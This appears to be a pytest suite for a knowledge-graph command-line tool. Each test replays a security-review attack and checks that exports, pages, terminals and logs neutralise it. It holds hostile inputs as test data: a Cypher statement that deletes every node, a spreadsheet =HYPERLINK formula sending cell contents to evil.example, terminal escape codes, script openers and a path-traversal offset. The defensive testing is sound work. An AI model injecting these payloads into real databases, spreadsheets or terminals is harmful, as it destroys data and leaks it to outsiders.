"""What users open, and work on hostile answers: each attack of the security review reproduced, and shown to
do no harm — no statement split out of the Cypher export, no formula in a CSV, the page drawn whatever the
names hold, bounded work on one answer, no markup or escape code reaching the terminal, one-line errors or
valid files for malformed input, no key in any output."""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.browser import view_renders
from tests.conftest import ROOT, iepile_record, read_jsonl, run_kgc, write_jsonl
from tests.cypher_shell import split
from tests.fake_openai import FakeOpenAI

THREADS = {"KGC_TORCH_THREADS": "1", "OMP_NUM_THREADS": "1"}
KEY = "sk-canary-4d1f0e9b7a6c5e3d2b1a"


def chunked(record: dict, doc_id: str) -> dict:
    """A prediction record as extract's chunks carry it (the document id travels with it)."""
    return {**record, "doc_id": doc_id, "chunk": 0, "start": 0}


# ---- 3. Cypher that cypher-shell splits as Cypher reads it ----------------------------------------------
WIPE = "MATCH (n) DETACH DELETE n"
HOSTILE_RELATIONS = ["works for\\", f"z;{WIPE};//"]


def test_the_cypher_export_splits_into_kgcs_statements_only(tmp_path):
    text = "Alice works for Acme."
    write_jsonl(tmp_path / "pred.json", [
        iepile_record("NER", ["person", "organization"], text,
                      output={"person": ["Alice"], "organization": ["Acme"]}),
        iepile_record("RE", HOSTILE_RELATIONS, text,
                      output={r: [{"subject": "Alice", "object": "Acme"}] for r in HOSTILE_RELATIONS}),
    ])
    run_kgc("graph", "build", "pred.json", "--out", "g", cwd=tmp_path, check=True)
    result = run_kgc("graph", "export", "g", "--format", "cypher", "--out", "g.cypher", cwd=tmp_path,
                     check=True)
    assert "1 label(s) or relationship type(s) hold a backslash, written as ＼" in result.stderr_text
    script = (tmp_path / "g.cypher").read_text(encoding="utf-8")
    statements = split(script)
    assert all(s.complete for s in statements)
    kinds = [s.text.split()[0] for s in statements]
    assert kinds == ["CREATE", "CREATE", ":param", "UNWIND", ":param", "UNWIND"] + [":param", "UNWIND"] * 2
    assert not any(WIPE in s.text and not s.command and not s.text.startswith("UNWIND") for s in statements)
    # the control: the same script with the backslash left in is split the harmful way by the port
    raw = split(script.replace("＼", "\\"))
    assert any(s.text.strip() == WIPE for s in raw)


# ---- 4. no formula cells in any CSV ------------------------------------------------------------------------
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"docs")'


def cells(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text)) for value in row]


def formula_cells(text: str) -> list[str]:
    return [c for c in cells(text) if c[:1] in ("=", "+", "-", "@", "\t", "\r")
            and not c.lstrip("+-").replace(".", "", 1).isdigit()]


def test_no_csv_kgc_writes_holds_a_formula(tmp_path):
    text = f"{FORMULA} met @Bob and -Carol in +Rome."
    schema = ["person", "=city"]
    records = [iepile_record("NER", schema, text, output={"person": [FORMULA, "@Bob", "-Carol"],
                                                          "=city": ["+Rome"]},
                             label=[{"entity": "+Rome", "entity_type": "=city"}])]
    write_jsonl(tmp_path / "pred.json", records)
    run_kgc("graph", "build", "pred.json", "--out", "g", cwd=tmp_path, check=True)
    run_kgc("graph", "export", "g", "--format", "csv", "--out", "csv", cwd=tmp_path, check=True)
    query = run_kgc("graph", "query", "g", "MATCH (n) RETURN n.name, n.type ORDER BY n.name", "--format",
                    "csv", cwd=tmp_path, check=True)
    report = run_kgc("eval", "pred.json", "--task", "NER", "--format", "csv", cwd=tmp_path, check=True)
    outputs = {"export nodes": (tmp_path / "csv" / "nodes.csv").read_text(),
               "export edges": (tmp_path / "csv" / "edges.csv").read_text(),
               "query": query.stdout_text, "eval": report.stdout_text}
    for name, content in outputs.items():
        assert formula_cells(content) == [], name
    assert f"'{FORMULA}" in cells(outputs["export nodes"]) and "'@Bob" in cells(outputs["query"])
    assert "'=city" in cells(outputs["eval"])
    # the Neo4j import folder keeps names exact (neo4j-admin reads text; a quote would join the name)
    run_kgc("graph", "export", "g", "--format", "neo4j", "--out", "neo4j", cwd=tmp_path, check=True)
    assert FORMULA in cells((tmp_path / "neo4j" / "nodes.csv").read_text())


# ---- 8. the page renders whatever the strings hold --------------------------------------------------------
def test_the_page_renders_with_comment_and_script_openers_everywhere(tmp_path):
    opener = "<!--<script>"
    text = f"Alice {opener} works in Paris."
    person, city, relation = f"person{opener}", "city", f"works in{opener}"
    write_jsonl(tmp_path / "pred.json", [
        chunked(iepile_record("NER", [person, city], text,
                              output={person: [f"Alice {opener}"], city: ["Paris"]}), f"{opener}doc.txt"),
        chunked(iepile_record("RE", [relation], text,
                              output={relation: [{"subject": f"Alice {opener}", "object": "Paris"}]}),
                f"{opener}doc.txt"),
    ])
    run_kgc("graph", "build", "pred.json", "--out", "g", cwd=tmp_path, check=True)
    run_kgc("graph", "show", "g", "--out", "page.html", cwd=tmp_path, check=True)
    page = (tmp_path / "page.html").read_text(encoding="utf-8")
    data = page.split('id="graph-data">')[1].split("</script>")[0]
    assert "<" not in data and ">" not in data and "&" not in data
    assert "'unsafe-inline'" not in page and "script-src 'sha256-" in page
    html, _ = view_renders(tmp_path / "page.html", 2, 1, tmp_path / "profile")
    assert "Alice &lt;!--&lt;script&gt;" in html and "works in&lt;!--&lt;script&gt;" in html


# ---- 9. bounded work on one answer ------------------------------------------------------------------------
class CountingParser:
    """orjson with its ``loads`` calls counted (the parse attempts of a repair)."""

    def __init__(self) -> None:
        import orjson

        self.orjson, self.calls = orjson, 0
        self.JSONDecodeError = orjson.JSONDecodeError

    def loads(self, text):
        self.calls += 1
        return self.orjson.loads(text)


def test_repair_of_a_megabyte_answer_takes_a_constant_number_of_parses(monkeypatch):
    from kgcli import repair

    names = ", ".join(f'"name{i}"' for i in range(24_000))
    for tail in (', "unfinished', ", garbage that is not JSON at all, ,"):
        answer = '{"person": [' + names + tail
        answer += "x" * (1_000_000 - len(answer))
        counter = CountingParser()
        monkeypatch.setattr(repair, "orjson", counter)
        value, repaired = repair.parse_answer(answer)
        assert repaired and value["person"][:2] == ["name0", "name1"]
        assert len(value["person"]) in (24_000, 24_001)
        assert counter.calls <= 4, counter.calls


def test_an_answer_past_the_cap_is_cut_and_counted_and_a_flood_is_refused(tmp_path, tiny_model):
    write_jsonl(tmp_path / "in.json", [{"id": "1", "instruction": "hi"}])
    with FakeOpenAI(lambda body: "x" * 2_000) as server:
        cut = run_kgc("predict", "in.json", "out.json", "--preset", "tiny-random-llama-lora", "--backend",
                      "openai", "--api-base", server.url, "--served-model", "m", "--max-new-tokens", "16",
                      cwd=tmp_path, env=THREADS, check=True)
    assert len(read_jsonl(tmp_path / "out.json")[0]["output"]) == 16 * 32
    assert "1 answer(s) longer than 512 characters" in cut.stderr_text
    with FakeOpenAI(lambda body: "x" * 8_000_000) as server:
        flood = run_kgc("predict", "in.json", "flood.json", "--preset", "tiny-random-llama-lora", "--backend",
                        "openai", "--api-base", server.url, "--served-model", "m", "--max-new-tokens", "16",
                        cwd=tmp_path, env=THREADS)
    assert flood.returncode == 2 and flood.stderr_text.splitlines()[-1] == (
        "kgc: error: the server's answer is over 1,050,624 bytes for at most 16 new tokens: does it honour "
        "max_tokens?")
    assert not (tmp_path / "flood.json").exists()


def low_file_limit(*args: str, cwd: Path, limit: int = 64) -> subprocess.CompletedProcess:
    """kgc with at most ``limit`` open files (as ``ulimit -n``)."""
    return subprocess.run(["prlimit", f"--nofile={limit}", sys.executable, "-m", "kgcli", *args], cwd=cwd,
                          capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(ROOT)})


def test_a_thousand_attribute_names_in_one_answer_stay_out_of_the_graph(tmp_path):
    text = "张三在杭州银行工作。"
    attributes = {f"属性{i}": "杭州银行" for i in range(1_100)}
    schema = [{"entity_type": "人物", "attributes": ["工作单位"]}]
    write_jsonl(tmp_path / "pred.json", [
        iepile_record("NER", ["人物", "机构"], text, output={"人物": ["张三"], "机构": ["杭州银行"]}),
        iepile_record("KG", schema, text, output={"人物": {"张三": {"工作单位": "杭州银行", **attributes}}}),
    ])
    result = low_file_limit("graph", "build", "pred.json", "--out", "g", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "1100 answered name(s) outside their chunk's schema" in result.stderr
    relations = {e["relation"] for e in read_jsonl(tmp_path / "g" / "edges.jsonl")}
    assert relations == {"工作单位"}


def test_two_thousand_types_end_in_one_line(tmp_path):
    types = [f"类型{i}" for i in range(2_000)]
    text = "张三在北京。"
    records = [iepile_record("NER", types, text, output={t: ["张三"] for t in types})]
    write_jsonl(tmp_path / "pred.json", records)
    result = low_file_limit("graph", "build", "pred.json", "--out", "g", cwd=tmp_path)
    assert result.returncode == 2 and result.stderr == (
        "kgc: error: more than 1,000 node types and relations (each is a table of the database): are the "
        "answers bound to a schema? --max-labels N builds it anyway\n")
    assert not (tmp_path / "g").exists()


def test_staging_never_holds_a_file_per_type_open(tmp_path):
    """The staging files of a graph with 2,000 types, written under a limit of 40 open files."""
    code = (
        "import resource, sys; sys.path.insert(0, sys.argv[2]);"
        "resource.setrlimit(resource.RLIMIT_NOFILE, (40, 40));"
        "from kgcli.graph.aggregate import _Staging;"
        "s = _Staging(sys.argv[1]);"
        "[s.write(('n', f't{k}'), ['id', 'name'], [f'{k}-{r}', 'x']) for r in range(3) for k in range(2000)];"
        "s.close(); print(len(s.files))"
    )
    run = subprocess.run([sys.executable, "-c", code, str(tmp_path / "staging"), str(ROOT)],
                         capture_output=True, text=True)
    assert run.returncode == 0, run.stderr
    assert run.stdout.strip() == "2000"
    first = (tmp_path / "staging" / "0.csv").read_text().splitlines()
    assert first == ["id,name", "0-0,x", "0-1,x", "0-2,x"]


# ---- 10. the terminal shows names, never runs them --------------------------------------------------------
LINK = "[link=https://evil.example/x]docs[/link]"
TITLE = "\x1b]0;pwned\x07Eve"


def test_tables_and_icl_show_markup_and_escape_codes_as_text(tmp_path):
    text = f"{LINK} met {TITLE} and [/x]."
    schema = ["person", "[bold]type[/bold]"]
    write_jsonl(tmp_path / "pred.json", [iepile_record(
        "NER", schema, text, output={"person": [LINK, TITLE, "[/x]"], "[bold]type[/bold]": []},
        label=[{"entity": "[/x]", "entity_type": "[bold]type[/bold]"}])])
    run_kgc("graph", "build", "pred.json", "--out", "g", cwd=tmp_path, check=True)
    table = run_kgc("graph", "query", "g", "MATCH (n) RETURN n.name ORDER BY n.name", cwd=tmp_path,
                    check=True)
    assert LINK in table.stdout_text and "[/x]" in table.stdout_text
    assert "\\x1b]0;pwned\\x07Eve" in table.stdout_text and "\x1b" not in table.stdout_text
    report = run_kgc("eval", "pred.json", "--task", "NER", cwd=tmp_path, check=True)
    assert "[bold]type[/bold]" in report.stdout_text
    with FakeOpenAI(lambda body: f'{TITLE}\x9b2J{{"person": ["{LINK}"]}}') as server:
        icl = run_kgc("icl", "--model", "openai/m", "--api-base", server.url, "--task", "ner", "--language",
                      "en", "--labels", "person", "--text", "Eve met Bob.", env={"KGC_CACHE": str(tmp_path)},
                      check=True)
    assert "\x1b" not in icl.stdout_text and "\x9b" not in icl.stdout_text
    assert icl.stdout_text.startswith("\\x1b]0;pwned\\x07Eve\\x9b2J")


# ---- 13. malformed input: one line, or a valid file -------------------------------------------------------
def test_deep_nesting_is_an_unparsed_answer_not_a_traceback(tmp_path):
    deep = "[" * 100_000 + "]" * 100_000
    instruction = json.dumps({"instruction": "x", "schema": ["person"], "input": "Alice"})
    write_jsonl(tmp_path / "answer.json", [{"id": "1", "task": "NER", "source": "s",
                                            "instruction": instruction, "label": "[]",
                                            "output": '{"person": ' + deep + "}"}])
    write_jsonl(tmp_path / "instruction.json", [{
        "id": "1", "task": "NER", "source": "s", "label": "[]", "output": '{"person": ["Alice"]}',
        "instruction": '{"instruction": "x", "schema": ' + deep + ', "input": "Alice"}'}])
    for args in (["eval", "answer.json", "--task", "NER", "--legacy"],
                 ["graph", "build", "answer.json", "--out", "g"],
                 ["graph", "build", "instruction.json", "--out", "g2"]):
        result = run_kgc(*args, cwd=tmp_path)
        assert result.returncode == 2, (args, result.stderr_text[-300:])
        assert result.stderr_text.count("\n") == 1, (args, result.stderr_text[-300:])
        assert "Traceback" not in result.stderr_text


def test_control_characters_in_names_give_a_graphml_file_parsers_open(tmp_path):
    import networkx

    names = ["Form\x0cFeed", "Null\x00Byte", "Bell\x07", "Tab\tOk", "Carriage\r\nReturn"]
    text = " ".join(names)
    write_jsonl(tmp_path / "pred.json", [iepile_record("NER", ["person"], text, output={"person": names})])
    run_kgc("graph", "build", "pred.json", "--out", "g", cwd=tmp_path, check=True)
    result = run_kgc("graph", "export", "g", "--format", "graphml", "--out", "g.graphml", cwd=tmp_path,
                     check=True)
    assert "kgc: warning: " in result.stderr_text and "written as U+FFFD" in result.stderr_text
    graph = networkx.read_graphml(tmp_path / "g.graphml")
    assert sorted(data["name"] for _, data in graph.nodes(data=True)) == [
        "Bell\ufffd", "Carriage\r\nReturn", "Form\ufffdFeed", "Null\ufffdByte", "Tab\tOk"]


@pytest.mark.parametrize("start,end", [("../../../../admin", 3), (-4, 2), (5, 2), (1.5, 3), (True, 2)])
def test_bad_mention_offsets_are_one_line_and_no_iri_leaves_the_base(tmp_path, start, end):
    document = {"doc_id": "d", "entities": [{"text": "Alice", "type": "person", "grounded": True,
                                             "mentions": [{"start": start, "end": end, "record": "r"}]}]}
    write_jsonl(tmp_path / "extracted.json", [document])
    result = run_kgc("graph", "build", "extracted.json", "--out", "g", cwd=tmp_path)
    assert result.returncode == 2 and result.stderr_text == (
        f"kgc: error: extracted.json:1: a mention's start and end are not character offsets ({start!r}, "
        f"{end!r})\n")
    good = {**document, "entities": [{**document["entities"][0], "mentions": [{"start": 0, "end": 5}]}]}
    write_jsonl(tmp_path / "extracted.json", [good])
    run_kgc("graph", "build", "extracted.json", "--out", "g", cwd=tmp_path, check=True)
    base = "https://kg.example/base/"
    run_kgc("graph", "export", "g", "--format", "turtle", "--base-iri", base, "--out", "g.ttl", cwd=tmp_path,
            check=True)
    import pyoxigraph

    triples = pyoxigraph.parse(path=str(tmp_path / "g.ttl"), format=pyoxigraph.RdfFormat.TURTLE)
    iris = {term.value for triple in triples for term in (triple.subject, triple.object)
            if isinstance(term, pyoxigraph.NamedNode)}
    (node,) = read_jsonl(tmp_path / "g" / "nodes.jsonl")
    assert {i for i in iris if "/mention/" in i} == {f"{base}mention/{node['id']}/d/0-5"}


# ---- 14. no key in any output, however it is spelled ------------------------------------------------------
def test_an_escaped_key_in_an_answer_reaches_no_output(tmp_path, tiny_model):
    escaped = KEY.replace("-", "\\u002d")
    text = "Alice met Bob."
    write_jsonl(tmp_path / "in.json", [iepile_record("NER", ["person"], text)])
    env = {**THREADS, "MY_KEY": KEY}
    with FakeOpenAI(lambda body: '{"person": ["Alice", "' + escaped + '"]}') as server:
        run_kgc("predict", "in.json", "pred.json", "--preset", "tiny-random-llama-lora", "--backend",
                "openai", "--api-base", server.url, "--served-model", "m", "--api-key-env", "MY_KEY",
                cwd=tmp_path, env=env, check=True)
    run_kgc("graph", "build", "pred.json", "--out", "g", cwd=tmp_path, env=env, check=True)
    run_kgc("graph", "export", "g", "--format", "csv", "--out", "csv", cwd=tmp_path, env=env, check=True)
    query = run_kgc("graph", "query", "g", "MATCH (n) RETURN n.name", "--format", "jsonl", cwd=tmp_path,
                    check=True)
    assert json.loads(read_jsonl(tmp_path / "pred.json")[0]["output"])["person"] == ["Alice", "***"]
    for path in tmp_path.rglob("*"):
        if path.is_file():
            assert KEY.encode() not in path.read_bytes(), path
    assert KEY not in query.stdout_text and "Alice" in query.stdout_text


def test_a_base64_echo_of_the_key_in_an_error_is_blanked(tmp_path, tiny_model):
    write_jsonl(tmp_path / "in.json", [{"id": "1", "instruction": "hi"}])
    echo = base64.b64encode(f"Authorization: Bearer {KEY}".encode()).decode()
    with FakeOpenAI(lambda body: (401, f"bad credentials, you sent {echo}")) as server:
        result = run_kgc("predict", "in.json", "out.json", "--preset", "tiny-random-llama-lora", "--backend",
                         "openai", "--api-base", server.url, "--served-model", "m", "--api-key-env", "MY_KEY",
                         cwd=tmp_path, env={**THREADS, "MY_KEY": KEY})
    assert result.returncode == 2 and "HTTP 401" in result.stderr_text
    shown = result.stderr_text
    assert KEY not in shown and echo not in shown and "***" in shown
    for piece in shown.split():
        try:
            assert KEY not in base64.b64decode(piece + "==").decode("utf-8", "ignore")
        except ValueError:
            pass
